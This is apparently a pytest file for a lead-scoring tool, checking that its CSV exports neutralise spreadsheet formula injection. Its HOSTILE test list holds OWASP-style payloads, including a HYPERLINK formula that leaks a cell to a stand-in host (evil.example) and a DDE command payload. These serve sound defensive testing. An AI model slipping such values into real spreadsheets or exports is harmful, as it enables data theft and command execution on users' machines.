"""CSV exports never hand a spreadsheet a formula: `score --out/--ledger`, `sample --out`,
`predict --out` and `write_table` on every backend, read back with the csv module."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import ibis
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from leadscore.cli import app
from leadscore.io import write_table
from leadscore.io.formulas import FORMULA_STARTS, safe_cell, safe_rows

ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()

# What a web form or tracker may send as an id or a name (OWASP's CSV injection examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "@SUM(1+1)",
]
MODEL = """
name: hostile
version: "1"
fit:
  rules:
    - {name: ceo, when: {field: job_title, contains: ceo}, points: 10}
    - {name: competitor, when: {field: company, contains: acme}, points: -25}
behaviour:
  decay: {type: none}
  rules:
    - {name: visit, event: page_view, points: 1}
"""


def _quoted(value: str) -> str:
    return "'" + value


@pytest.fixture()
def hostile_data(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    data.mkdir()
    leads = [
        {"lead_id": lead, "job_title": "CEO", "name": f"=cmd{i}", "company": "-ACME"}
        for i, lead in enumerate(HOSTILE)
    ]
    events = [
        {"event_id": f"v{i}", "lead_id": lead, "type": "page_view", "ts": "2026-01-01T11:00:00"}
        for i, lead in enumerate(HOSTILE)
    ]
    for name, rows in (("leads", leads), ("events", events)):
        with (data / f"{name}.jsonl").open("w", encoding="utf-8") as f:
            for row in rows:
                f.write(json.dumps(row) + "\n")
    (tmp_path / "model.yaml").write_text(MODEL)
    return data


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _no_formula(rows: list[dict[str, str]]) -> None:
    """No text cell starts a formula (numbers, negative ones too, are written as numbers)."""
    for row in rows:
        for name, cell in row.items():
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), (name, cell)


def test_safe_cell_quotes_only_text_that_starts_a_formula() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == _quoted(value)
    for value in ("CEO", "a=b", "", "'already", " =1", "L1"):
        assert safe_cell(value) == value
    for number in (-25, -1.5, 0, 3):
        assert safe_cell(number) == number
    assert safe_cell(None) is None
    assert safe_rows([{"a": "=1", "b": -2}]) == [{"a": "'=1", "b": -2}]


def test_score_out_and_ledger_neutralise_every_text_cell(
    tmp_path: Path, hostile_data: Path
) -> None:
    out, ledger = tmp_path / "scores.csv", tmp_path / "ledger.csv"
    args = ["score", str(tmp_path / "model.yaml"), "--data", str(hostile_data)]
    result = runner.invoke(
        app, [*args, "--as-of", "2026-02-01", "--out", str(out), "--ledger", str(ledger)]
    )
    assert result.exit_code == 0, result.output
    scores = _read(out)
    assert sorted(r["lead_id"] for r in scores) == sorted(_quoted(v) for v in HOSTILE)
    _no_formula(scores)
    # numbers stay numbers: a negative total is written as a number, not as text
    totals = {r["lead_id"]: r["total"] for r in scores}
    assert {float(v) for v in totals.values()} == {-14.0}, totals
    lines = _read(ledger)
    assert {r["lead_id"] for r in lines} == {_quoted(v) for v in HOSTILE}
    _no_formula(lines)
    assert {float(r["points"]) for r in lines} == {10.0, -25.0, 1.0}
    assert any(r["points"].startswith("-") for r in lines)


def test_sample_out_neutralises_leads_and_ledger(tmp_path: Path, hostile_data: Path) -> None:
    out = tmp_path / "sample.csv"
    args = ["sample", str(tmp_path / "model.yaml"), "--data", str(hostile_data)]
    result = runner.invoke(app, [*args, "--as-of", "2026-02-01", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _read(out)
    assert {r["lead_id"] for r in rows} == {_quoted(v) for v in HOSTILE}
    _no_formula(rows)
    assert {float(r["total"]) for r in rows} == {-14.0}
    ledger = _read(tmp_path / "sample-ledger.csv")
    _no_formula(ledger)
    assert {r["lead_id"] for r in ledger} == {_quoted(v) for v in HOSTILE}
    assert -25.0 in {float(r["points"]) for r in ledger}


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_write_table_neutralises_on_postgres_too(database_url: str, tmp_path: Path) -> None:
    """The rule is an expression: `write_table` quotes the same cells on PostgreSQL."""
    rows = pa.table({"lead_id": [*HOSTILE, "L1"], "points": [-1.5] * (len(HOSTILE) + 1)})
    con = ibis.connect(database_url.replace("postgresql://", "postgres://"))
    try:
        con.create_table("formula_probe", rows)
        write_table(con.table("formula_probe"), tmp_path / "probe.csv")
    finally:
        con.disconnect()
    got = _read(tmp_path / "probe.csv")
    assert sorted(r["lead_id"] for r in got) == sorted([*map(_quoted, HOSTILE), "L1"])
    assert {r["points"] for r in got} == {"-1.5"}


def test_every_csv_writer_goes_through_the_shared_rule() -> None:
    """A new CSV writer in src/ must use leadscore.io.formulas (grep, so none escapes)."""
    writers = re.compile(r"csv\.writer|DictWriter|\.to_csv\(|write_csv\(|CSVWriter\(")
    # generate writes leadscore's own synthetic input files from fixed vocabularies, which
    # leadscore reads back as data: quoting them would change the data, not protect anyone.
    exempt = {"io/generate.py"}
    found = []
    for path in sorted((ROOT / "src" / "leadscore").rglob("*.py")):
        name = path.relative_to(ROOT / "src" / "leadscore").as_posix()
        text = path.read_text(encoding="utf-8")
        if name in exempt or name == "io/formulas.py" or not writers.search(text):
            continue
        found.append(name)
        assert re.search(r"safe_(table|rows|cell)\(", text), f"{name} writes CSV unprotected"
    assert {"cli.py", "io/readers.py"} <= set(found)
